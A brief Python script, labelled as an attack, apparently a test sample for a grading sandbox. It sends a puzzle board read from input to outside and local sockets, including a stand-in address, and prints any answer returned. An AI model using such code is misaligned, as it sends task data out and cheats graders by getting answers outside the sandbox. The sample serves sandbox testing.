# Attack: sends the board to a machine of the student's and prints what comes back.
import socket
import sys

board = sys.stdin.buffer.read()
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
    for place in (("127.0.0.1", 8080), ("198.51.100.7", 443), "\0answers"):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as line:
                line.settimeout(1)
                line.connect(place)
                line.sendall(board)
                sys.stdout.write(line.recv(64).decode())
        except (OSError, TypeError, ValueError):
            pass
